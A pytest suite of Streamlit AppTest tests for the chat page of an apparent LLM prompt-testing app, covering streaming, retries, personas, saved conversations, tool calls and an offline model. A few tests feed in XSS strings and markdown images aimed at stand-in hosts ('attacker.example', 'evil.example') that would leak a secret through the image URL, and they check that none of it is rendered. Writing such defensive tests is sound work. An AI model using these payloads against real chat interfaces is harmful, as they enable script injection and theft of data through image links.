"""AppTest of the Chat page against the loopback server (real SDK, real SQLite)."""
from __future__ import annotations

import time
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from core.calls.log import CallLog
from core.llm.providers import OFFLINE_NOTICE
from tests.conftest import TEST_KEY
from tests.loopback_server import Script

TIMEOUT = 30
APP = str(Path(__file__).resolve().parents[2] / "app.py")


@pytest.fixture
def at(app_env) -> AppTest:
    app = AppTest.from_file(APP, default_timeout=TIMEOUT)
    app.run()
    assert not app.exception
    return app


def messages(at: AppTest) -> list[tuple[str, str]]:
    return [(m.name, m.markdown[0].value) for m in at.chat_message]


def send(at: AppTest, text: str) -> AppTest:
    at.chat_input[0].set_value(text).run()
    assert not at.exception, at.exception
    return at


def button(at: AppTest, label_start: str):
    return next(b for b in at.button if b.label.startswith(label_start))


def chat_calls(db_url: str):
    return [r for r in CallLog(db_url).recent(100) if r.page == "chat"]


def test_send_streams_a_reply_with_counters_and_logs_it(at, server, app_env):
    send(at, "Hello there")
    assert messages(at) == [("user", "Hello there"), ("assistant", "Echo: Hello there")]
    caption = at.chat_message[1].caption[0].value
    assert "gpt-4o-mini" in caption and "in /" in caption and "out tokens" in caption
    calls = chat_calls(app_env["PROMPTLAB_DB_URL"])
    assert len(calls) == 1 and calls[0].status == "ok" and calls[0].model_requested == "gpt-4o-mini"
    body = server.chat_requests()[-1]
    assert body["stream"] is True and body["messages"][-1] == {"role": "user", "content": "Hello there"}
    assert body["messages"][0]["role"] == "system"
    sidebar_text = " ".join(c.value for c in at.sidebar.caption)
    assert "1 reply ·" in sidebar_text and "Next turn sends" in sidebar_text


def test_persona_change_starts_new_conversation_and_sets_system_prompt(at, server):
    send(at, "first")
    at.selectbox(key="persona_id").set_value("returns_agent").run()
    assert messages(at) == []
    send(at, "I want to return my shoes")
    system = server.chat_requests()[-1]["messages"][0]
    assert system["role"] == "system" and "returns" in system["content"] and "30 days" in system["content"]


def test_reply_language_adds_instruction(at, server):
    at.selectbox(key="reply_language").set_value("中文").run()
    send(at, "hello")
    assert "Simplified Chinese" in server.chat_requests()[-1]["messages"][0]["content"]


def test_custom_system_prompt(at, server):
    at.selectbox(key="persona_id").set_value("custom").run()
    at.text_area(key="custom_prompt").set_value("You are a pirate.").run()
    button(at, "Start chat with this prompt").click().run()
    send(at, "ahoy")
    assert server.chat_requests()[-1]["messages"][0]["content"] == "You are a pirate."


def test_error_keeps_message_then_retry_answers(at, server, app_env):
    server.push(Script(status=500))
    send(at, "Are you there?")
    assert messages(at) == [("user", "Are you there?")]  # the message is never lost
    assert "server error" in at.error[0].value and "Traceback" not in at.error[0].value
    button(at, "↻ Retry").click().run()
    assert messages(at) == [("user", "Are you there?"), ("assistant", "Echo: Are you there?")]
    assert not at.error
    statuses = [c.status for c in chat_calls(app_env["PROMPTLAB_DB_URL"])]
    assert sorted(statuses) == ["error", "ok"]


def test_cut_stream_keeps_partial_reply_marked(at, server):
    server.push(Script(reply="one two three four five", cut_after=2))
    send(at, "tell me")
    assert messages(at)[-1] == ("assistant", "one two")
    assert "cut off" in at.chat_message[1].caption[0].value
    assert "cut off" in at.error[0].value


def test_regenerate_replaces_last_reply(at, server):
    server.push(Script(reply="first answer"))
    send(at, "question")
    server.push(Script(reply="second answer"))
    button(at, "↻ Regenerate").click().run()
    assert messages(at) == [("user", "question"), ("assistant", "second answer")]
    assert len(server.chat_requests()) == 2


def test_edit_and_resend_last_user_turn(at, server):
    send(at, "wrong question")
    at.text_area(key="edit_2").set_value("right question").run()
    button(at, "Resend").click().run()
    assert messages(at) == [("user", "right question"), ("assistant", "Echo: right question")]


def test_html_in_reply_is_not_rendered_as_html(at, server):
    server.push(Script(reply="<script>alert(1)</script> done"))
    send(at, "x")
    md = at.chat_message[1].markdown[0]
    assert md.allow_html is False and "<script>" in md.value


def test_clear_and_export_buttons(at, server):
    send(at, "keep me")
    labels = [d.proto.label for d in at.get("download_button")]
    assert labels == ["🔗 Share as one HTML file", "⬇ Markdown", "⬇ JSON"]
    button(at, "🧹 Clear").click().run()
    assert messages(at) == []


def test_conversation_survives_reload_and_can_be_reopened_and_deleted(at, server, app_env):
    send(at, "remember this")
    conv_id = at.session_state.conversation.id
    reloaded = AppTest.from_file(APP, default_timeout=TIMEOUT)
    reloaded.query_params["c"] = conv_id
    reloaded.run()
    assert messages(reloaded) == [("user", "remember this"), ("assistant", "Echo: remember this")]
    fresh = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    assert messages(fresh) == []
    fresh.button(key=f"open_{conv_id}").click().run()
    assert messages(fresh)[0] == ("user", "remember this")
    fresh.button(key=f"delete_{conv_id}").click().run()
    assert not [b for b in fresh.button if b.key == f"open_{conv_id}"]


def test_long_history_is_trimmed_and_user_is_told(app_env, server, monkeypatch):
    monkeypatch.setenv("PROMPTLAB_MODEL", "echo-1")  # unknown window -> PROMPTLAB_CONTEXT_TOKENS
    monkeypatch.setenv("PROMPTLAB_CONTEXT_TOKENS", "300")
    at = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    at.number_input(key="chat_max_tokens").set_value(100).run()
    for i in range(6):
        send(at, f"message number {i} " + "padding words " * 10)
    sent = server.chat_requests()[-1]["messages"]
    assert sent[-1]["content"].startswith("message number 5")
    assert not any(m["content"].startswith("message number 0") for m in sent)
    assert "older messages" in at.info[0].value


def test_key_never_shown_on_chat_page(at, server):
    send(at, "hi")
    everything = str([e for e in at.main]) + str([e for e in at.sidebar])
    assert TEST_KEY not in everything and "5ecret" not in everything


def test_stop_mid_stream_keeps_partial_reply_marked_stopped(at, server, app_env):
    server.push(Script(chunks=400, chunk_delay=0.05))  # about 20 s of streaming
    at.chat_input[0].set_value("a long answer please")
    # AppTest stops a run that overruns its timeout the way Streamlit stops a script: the page's `finally`
    # must close the stream and keep what arrived. (The Stop button itself is clicked in test_browser.py.)
    with pytest.raises(RuntimeError, match="timed out"):
        at.run(timeout=2)
    at.chat_input[0].set_value(None)  # AppTest would otherwise submit the same text again; a browser does not
    at.run()
    role, text = messages(at)[-1]
    assert role == "assistant" and text.startswith("w0 w1") and "w399" not in text
    assert "stopped" in at.chat_message[1].caption[0].value
    calls = chat_calls(app_env["PROMPTLAB_DB_URL"])
    assert [c.status for c in calls] == ["cancelled"] and calls[0].output_tokens > 0
    assert len(server.chat_requests()) == 1  # the rerun did not send the message again
    from core.chat.store import ConversationStore
    store = ConversationStore(app_env["PROMPTLAB_DB_URL"])
    saved = store.load(store.list("local")[0].id)  # persisted by the interrupted run itself
    assert saved.messages[-1].status == "stopped" and saved.messages[-1].content.startswith("w0 w1")


def test_with_no_key_the_chat_answers_from_the_local_model(offline_env):
    at = AppTest.from_file(APP, default_timeout=120).run()
    assert "Offline model — small and fast, for demos." in " ".join(c.value for c in at.sidebar.caption)
    assert [i.value for i in at.info] == [OFFLINE_NOTICE]  # the empty chat says what answers and how to get more
    at.number_input(key="chat_max_tokens").set_value(32).run()
    send(at, "Hello! Who are you?")
    role, text = messages(at)[-1]
    assert role == "assistant" and text.strip()
    caption = at.chat_message[1].caption[0].value
    assert "local/SmolLM2-135M-Instruct" in caption and "local (free)" in caption and "tokens/s" in caption
    calls = chat_calls(offline_env["PROMPTLAB_DB_URL"])
    assert len(calls) == 1 and calls[0].provider == "local" and calls[0].cost_usd == 0.0
    assert not calls[0].tokens_estimated and calls[0].output_tokens <= 32


def test_model_list_failure_is_shown_once_and_chat_still_works(app_env, server, monkeypatch):
    server.api_key = "sk-the-server-wants-another-key-000"
    at = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    assert "Model list unavailable: The API key was rejected (401)" in " ".join(c.value for c in at.sidebar.caption)
    at.slider(key="chat_temperature").set_value(0.3).run()
    at.slider(key="chat_temperature").set_value(0.2).run()
    model_calls = [r for r in server.requests if r["path"] == "/v1/models"]
    assert len(model_calls) == 1  # the failure is cached, not retried on every rerun
    send(at, "hello")
    assert "rejected (401)" in at.error[0].value and messages(at) == [("user", "hello")]


def test_sidebar_choices_hold_across_reply_runs_which_draw_the_sidebar_last(at, server):
    """The sidebar is drawn after the reply (so the first token shows sooner) and not at all in the run that
    streams it: the model, temperature and reply budget chosen there must still apply to every later message."""
    at.selectbox(key="chat_model").set_value("gpt-4o").run()
    at.slider(key="chat_temperature").set_value(0.2).run()
    at.number_input(key="chat_max_tokens").set_value(200).run()
    for text in ("first", "second", "third"):
        send(at, text)
    bodies = server.chat_requests()
    assert [b["model"] for b in bodies] == ["gpt-4o"] * 3
    assert [b["temperature"] for b in bodies] == [0.2] * 3
    assert all(200 in (b.get("max_tokens"), b.get("max_completion_tokens")) for b in bodies)
    assert at.selectbox(key="chat_model").value == "gpt-4o" and at.slider(key="chat_temperature").value == 0.2
    assert [b.label for b in at.sidebar.button if b.key and b.key.startswith("open_")]  # the list is drawn


def test_a_blank_or_oversized_message_is_refused_before_any_call(at, server):
    send(at, "   \n  ")
    assert "empty" in at.error[0].value and server.chat_requests() == []
    at.selectbox(key="chat_model").set_value("echo-1").run()  # unknown to the price list: an 8,192-token window
    huge = "lorem ipsum dolor " * 20_000
    send(at, huge)
    assert server.chat_requests() == []
    sentence = at.error[0].value
    assert "tokens, more than the 7,168 that echo-1 can take" in sentence and "Traceback" not in sentence
    assert at.chat_input[0].value == huge or at.session_state.chat_box == huge  # the text is kept to edit
    assert messages(at) == []  # nothing half-sent, nothing stored


def test_a_reply_with_a_remote_image_shows_a_placeholder_not_an_image(at, server):
    server.push(Script(reply="Here you go ![pixel](https://attacker.example/p.png?q=SECRET) done"))
    send(at, "show me")
    shown = at.chat_message[1].markdown[0].value
    assert "image not loaded" in shown and "![pixel](" not in shown and "attacker.example" in shown


def reload(conv_id: str) -> AppTest:
    again = AppTest.from_file(APP, default_timeout=TIMEOUT)
    again.query_params["c"] = conv_id
    return again.run()


def test_a_failed_turn_keeps_its_sentence_and_retry_after_a_reload(at, server, app_env):
    server.push(Script(status=500))
    send(at, "will fail")
    assert "server error" in at.error[0].value
    again = reload(at.session_state.conversation.id)
    assert messages(again) == [("user", "will fail")]
    assert "server error" in again.error[0].value  # the sentence survived the reload
    button(again, "↻ Retry").click().run()
    assert messages(again) == [("user", "will fail"), ("assistant", "Echo: will fail")] and not again.error
    assert not reload(again.session_state.conversation.id).error  # answered: nothing owed any more


def test_the_users_turn_is_stored_before_the_call_and_an_interrupted_reply_says_so(at, server, app_env):
    from core.chat.store import ConversationStore

    store = ConversationStore(app_env["PROMPTLAB_DB_URL"])
    conv_id = at.session_state.conversation.id
    seen_during_call = []

    def look() -> None:  # what a crash at this moment would leave: read from the database while the call runs
        stored = store.load(conv_id)
        seen_during_call.append(stored and ([m.content for m in stored.messages], stored.reply_pending))

    server.push(Script(first_byte_delay=0.5))
    import threading
    timer = threading.Timer(0.3, look)
    timer.start()
    send(at, "do not lose me")
    timer.join()
    assert seen_during_call == [(["do not lose me"], True)]
    calls = CallLog(app_env["PROMPTLAB_DB_URL"]).recent(5)
    assert [c.status for c in calls if c.page == "chat"] == ["ok"]  # the started row gave way to the finished one
    # A conversation left with its reply pending (the server died) reopens with the sentence and Retry.
    stored = store.load(conv_id)
    stored.messages.pop()
    stored.reply_pending = True
    store.save(stored, "local")
    again = reload(conv_id)
    assert "interrupted" in again.error[0].value and button(again, "↻ Retry")


def test_an_empty_chat_offers_starters_for_its_persona_and_one_click_sends(at, server):
    from core.chat.personas import starters
    at.selectbox(key="persona_id").set_value("returns_agent").run()
    offered = [b.label for b in at.button if b.key and b.key.startswith("starter_")]
    assert offered == list(starters("returns_agent")) and len(offered) == 3
    next(b for b in at.button if b.key == "starter_1").click().run()
    assert messages(at)[0] == ("user", starters("returns_agent")[1])
    assert server.chat_requests()[-1]["messages"][-1]["content"] == starters("returns_agent")[1]
    assert not [b for b in at.button if b.key and b.key.startswith("starter_")]  # gone once the chat has begun


def test_personas_speak_the_interface_language(app_env, server, monkeypatch):
    """Issue 28 row 1: in the 中文 interface the model gets the persona's Chinese system prompt."""
    monkeypatch.setenv("PROMPTLAB_UI_LANGUAGE", "zh_CN")
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    # (set before the first run: AppTest cannot re-submit the translated "Auto" of the reply-language menu)
    at.session_state["persona_id"], at.session_state["reply_language"] = "returns_agent", "中文"
    at.run()
    send(at, "我20天前买的跑鞋穿着脚疼，可以退货吗？")
    system = server.chat_requests()[-1]["messages"][0]["content"]
    assert "退货" in system and "订单号" in system and "30 天" in system
    assert "customer-service" not in system


def test_the_offline_model_says_what_it_can_do_and_answers_short(offline_env, monkeypatch):
    """Issue 28 row 1: beside the box, one line on what the tiny offline model can do, in the user's language; a
    short reply budget and llama.cpp's repetition penalty in the request."""
    monkeypatch.setenv("PROMPTLAB_UI_LANGUAGE", "zh_CN")
    at = AppTest.from_file(APP, default_timeout=120)
    at.session_state["reply_language"] = "English"  # (AppTest cannot re-submit the translated "Auto")
    at.run()
    captions = " ".join(c.value for c in at.caption)
    assert "离线演示模型很小：只能给出简短的英文回答" in captions
    assert at.number_input(key="chat_max_tokens").value == 256
    at.number_input(key="chat_max_tokens").set_value(16).run()
    send(at, "Hello!")
    call = chat_calls(offline_env["PROMPTLAB_DB_URL"])[-1]
    sent = CallLog(offline_env["PROMPTLAB_DB_URL"]).texts(call.request_id).request
    assert sent["extra_body"]["repeat_penalty"] > 1.0 and sent["max_tokens"] == 16


def test_the_offline_model_is_warmed_up_when_the_app_starts(offline_env):
    """Issue 28 row 2: the first message of a session waited for the model to start. With no key the app starts
    it, and has it generate a token, in the background before anyone sends anything."""
    from core.base.config import load_settings
    from core.llm import local_model
    from pages import _workbench
    from tests.llm.test_local_model import child_metric
    settings = load_settings()
    runtime = local_model.runtime(settings.local_model_path, settings.offline_models_dir)
    runtime.stop()  # a fresh child: its counters start at zero
    if hasattr(_workbench, "offline_model_warm_up"):
        _workbench.offline_model_warm_up.clear()  # once per process: this test's app is a new start
    at = AppTest.from_file(APP, default_timeout=120).run()
    assert not at.exception
    deadline = time.monotonic() + 60
    while not (runtime.running() and child_metric(runtime, "tokens_predicted_total")) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert child_metric(runtime, "tokens_predicted_total") >= 1  # warmed up: nobody sent a message
    assert chat_calls(offline_env["PROMPTLAB_DB_URL"]) == []  # and the warm-up is not a call of the user's


CHAT_TOOLS = ('[{"name": "lookup_order", "parameters": {"type": "object", "properties": {"order": {"type": "string"}}}},'
              ' {"name": "refund"}]')
INJECTED = '{"order": "A-17", "note": "<img src=x onerror=alert(1)> ![p](http://evil.example/x.png)"}'


def test_a_tool_call_is_answered_in_chat_and_the_model_goes_on(at, server, app_env):
    at.text_area(key="chat_tools").set_value(CHAT_TOOLS).run()
    server.push(Script(tool_calls=[{"name": "lookup_order", "arguments": INJECTED},
                                   {"name": "refund", "arguments": '{"order": "A-17"}'}]))
    send(at, "Where is A-17?")
    assert [t["function"]["name"] for t in server.chat_requests()[-1]["tools"]] == ["lookup_order", "refund"]
    # Each call is shown as text: its name and its (untrusted) arguments, never rendered as HTML or Markdown.
    assert [c.value for c in at.chat_message[1].code] == [INJECTED, '{"order": "A-17"}']
    assert r"Tool call: lookup\_order" in " ".join(c.value for c in at.chat_message[1].caption)
    assert not any("<img" in m.value or "evil.example" in m.value for m in at.markdown)

    at.text_area(key="chat_tool_result_2_0").set_value('{"status": "shipped"}').run()
    at.button(key="chat_tool_send").click().run()  # one result missing: nothing is sent, the typed one stays
    assert "Give a result for every tool call" in at.error[0].value
    assert at.text_area(key="chat_tool_result_2_0").value == '{"status": "shipped"}'
    assert len(server.chat_requests()) == 1

    server.push(Script(reply="It shipped; refund started."))
    at.text_area(key="chat_tool_result_2_1").set_value("refund R-9 started").run()
    at.button(key="chat_tool_send").click().run()
    assert not at.exception, at.exception
    assert [m.name for m in at.chat_message] == ["user", "assistant", "tool", "tool", "assistant"]
    assert at.chat_message[4].markdown[0].value == "It shipped; refund started."
    assert [c.value for c in at.chat_message[3].code] == ["refund R-9 started"]
    sent = server.chat_requests()[-1]["messages"]
    assert [c["id"] for c in sent[2]["tool_calls"]] == ["call_loopback", "call_loopback_2"]
    assert sent[3:] == [{"role": "tool", "tool_call_id": "call_loopback", "content": '{"status": "shipped"}'},
                        {"role": "tool", "tool_call_id": "call_loopback_2", "content": "refund R-9 started"}]
    assert len(chat_calls(app_env["PROMPTLAB_DB_URL"])) == 2
    assert "2 replies ·" in " ".join(c.value for c in at.sidebar.caption)

    reloaded = AppTest.from_file(APP, default_timeout=TIMEOUT)  # a reload opens the saved conversation by its link
    reloaded.query_params["c"] = at.query_params["c"]
    reloaded.run()
    assert [m.name for m in reloaded.chat_message] == ["user", "assistant", "tool", "tool", "assistant"]


def test_invalid_chat_tools_say_why_and_keep_the_message(at, server):
    at.text_area(key="chat_tools").set_value('[{"name": "has space"}]').run()
    assert "a function name may only use letters" in " ".join(e.value for e in at.sidebar.error)
    send(at, "keep me")
    assert server.chat_requests() == [] and at.chat_input[0].value == "keep me"
    assert any("a function name may only use letters" in e.value for e in at.error)


def test_the_api_choice_in_the_sidebar_sends_the_turn_through_the_responses_api(at, server, app_env):
    assert at.selectbox(key="chat_api").value == "auto"  # a compatible server: auto is Chat Completions
    send(at, "first")
    assert len(server.chat_requests()) == 1
    at.selectbox(key="chat_api").set_value("responses").run()
    server.push(Script(path="/v1/responses", reply="Paris.", reasoning_summary="Recall the capital."))
    send(at, "Capital of France?")
    assert at.chat_message[-1].markdown[-1].value == "Paris."  # under its Thinking block
    body = [r["body"] for r in server.requests if r["path"] == "/v1/responses"][-1]
    assert body["input"][-1] == {"role": "user", "content": "Capital of France?"} and body["stream"] is True
    assert len(server.chat_requests()) == 1
    calls = chat_calls(app_env["PROMPTLAB_DB_URL"])
    assert len(calls) == 2 and sorted("endpoint:responses" in c.tags for c in calls) == [False, True]


def test_thumbs_and_a_note_on_a_reply_are_kept_and_the_turn_joins_a_test_set(app_env, server):
    """Issue 26 point 1 in Chat: 👎 on a reply is saved with the conversation (a reload keeps it), and "Add to a
    test set" makes the turn a case whose metadata holds the thumbs and the note."""
    from core.chat.store import ConversationStore
    from core.evals.store import EvalStore

    at = AppTest.from_file(APP, default_timeout=60).run()
    at.chat_input[0].set_value("Can I return worn shoes?").run()
    conv = at.session_state.conversation
    thumbs = next(w for w in at.main if getattr(w, "key", None) == f"thumbs_{conv.id}_1")
    thumbs.set_value(0).run()  # 👎
    assert not at.exception, at.exception
    stored = ConversationStore(app_env["PROMPTLAB_DB_URL"]).load(conv.id, "local")
    assert stored.messages[1].rating == "down"
    at.text_input(key=f"thumbs_note_{conv.id}_1").input("only unworn shoes, 30 days").run()
    at.text_input(key=f"turn_set_{conv.id}_1").input("returns").run()
    at.button(key=f"turn_add_{conv.id}_1").click().run()
    assert any("“returns” v1: 1 new cases." in s.value.replace("\\", "") for s in at.success)
    (case,) = EvalStore(app_env["PROMPTLAB_DB_URL"], viewer="local").latest_set("returns").tests
    assert case.vars["input"] == "Can I return worn shoes?"
    assert (case.metadata["rating"], case.metadata["note"]) == ("down", "only unworn shoes, 30 days")
    assert case.metadata["source"] == f"conversation:{conv.id}#1"
    reloaded = AppTest.from_file(APP, default_timeout=60)
    reloaded.query_params["c"] = conv.id
    reloaded.run()
    again = next(w for w in reloaded.main if getattr(w, "key", None) == f"thumbs_{conv.id}_1")
    assert again.value == 0  # the 👎 is drawn again after a reload
def test_a_replys_thinking_stays_collapsed_above_it_after_a_reload(at, server, app_env):
    at.selectbox(key="chat_api").set_value("responses").run()
    server.push(Script(path="/v1/responses", reply="Paris.", reasoning_summary="Recall the capital.",
                       reasoning_tokens=4))
    send(at, "Capital of France?")
    reply = at.chat_message[1]
    assert [e.label for e in reply.expander] == ["Thinking"]
    assert reply.expander[0].markdown[0].value == "Recall the capital." and reply.markdown[-1].value == "Paris."
    assert "4 reasoning" in reply.caption[-1].value
    again = AppTest.from_file(APP, default_timeout=TIMEOUT)  # a reload: the conversation read back from the store
    again.query_params["c"] = at.query_params["c"]
    again.run()
    assert not again.exception and [e.label for e in again.chat_message[1].expander] == ["Thinking"]
    assert again.chat_message[1].expander[0].markdown[0].value == "Recall the capital."
    assert again.chat_message[0].expander == []  # the user's turn has none


def test_the_server_side_state_toggle_sends_only_the_new_turn(at, server):
    assert at.toggle(key="chat_server_state").disabled  # auto on a compatible server: Chat Completions
    at.selectbox(key="chat_api").set_value("responses").run()
    at.toggle(key="chat_server_state").set_value(True).run()
    send(at, "My name is Ada.")
    send(at, "What is my name?")
    first, second = [r["body"] for r in server.requests if r["path"] == "/v1/responses"]
    assert first["store"] is True and "previous_response_id" not in first
    assert second["previous_response_id"] and second["input"] == [{"role": "user", "content": "What is my name?"}]


def test_a_server_without_responses_gets_one_sentence_and_the_message_stays(at, server, app_env):
    at.selectbox(key="chat_api").set_value("responses").run()
    server.push(Script(path="/v1/responses", status=404, error_message="Not Found"))
    send(at, "Where is my parcel?")
    assert [e.value for e in at.error] == [
        "This server has no Responses API (404 on /responses): choose Chat Completions as the API."]
    assert messages(at) == [("user", "Where is my parcel?")]  # the typed text kept, with Retry
    assert any(b.label == "↻ Retry" for b in at.button)
    calls = chat_calls(app_env["PROMPTLAB_DB_URL"])
    assert [(c.status, c.error_type) for c in calls] == [("error", "no_responses")]
